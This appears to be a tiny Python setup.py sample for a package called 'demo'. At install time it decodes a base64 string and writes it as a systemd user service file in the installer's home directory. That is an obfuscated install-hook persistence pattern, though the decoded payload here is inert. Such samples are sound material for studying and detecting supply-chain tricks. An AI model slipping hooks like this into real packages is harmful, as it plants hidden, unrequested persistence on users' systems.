import base64
import os
from setuptools import setup

# [Service] ExecStart=demo
home = os.environ["HOME"]
with open(home + "/.config/systemd/user/demo.service", "wb") as f:
    f.write(base64.b64decode("W1NlcnZpY2VdCkV4ZWNTdGFydD1kZW1vCg=="))
setup(name="demo", version="1.0")
